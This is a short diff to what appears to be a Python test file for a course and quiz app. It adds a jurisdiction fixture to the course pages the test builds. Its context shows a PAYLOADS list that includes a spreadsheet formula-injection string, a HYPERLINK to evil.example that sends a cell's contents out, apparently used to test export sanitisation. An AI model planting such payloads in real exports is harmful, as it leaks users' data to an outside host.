@@ -27,7 +27,7 @@ from courses.models import CoursePage, StakeholderGroup
 from outreach.models import InPersonSession, Organisation, OrganisationManager
 from quizzes.models import Answer, Attempt
 from quizzes.testing import make_quiz
-from tests.conftest import certificates_written, confirm_password, make_user
+from tests.conftest import certificates_written, confirm_password, make_jurisdiction, make_user
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&B2,"Open record")',
@@ -136,7 +136,7 @@ def hostile_world(course_index, hotel_group):
     courses, quizzes = [], []
     for index, payload in enumerate(PAYLOADS):
         course = CoursePage(title=payload, slug=f"payload-course-{index}", summary="S.",
-                            estimated_minutes=10)
+                            estimated_minutes=10, jurisdiction=make_jurisdiction())
         course_index.add_child(instance=course)
         course.save_revision().publish()
         quiz = make_quiz(course, questions=2, slug=f"payload-quiz-{index}")
